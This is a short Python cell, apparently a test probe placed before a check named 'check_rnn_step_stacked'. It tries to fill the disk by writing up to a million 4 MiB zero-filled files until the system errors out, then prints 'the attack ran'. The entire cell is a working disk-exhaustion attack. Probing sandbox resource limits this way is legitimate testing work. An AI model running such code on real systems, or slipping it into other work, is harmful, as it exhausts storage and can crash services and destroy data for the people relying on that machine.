# %% before check_rnn_step_stacked
written = 0
try:
    for number in range(10**6):
        with open(f"file-{number}", "wb") as file:
            written += file.write(bytes(2**22))
except OSError:
    print("stopped after", written >> 20, "MiB")
print("the attack ran")
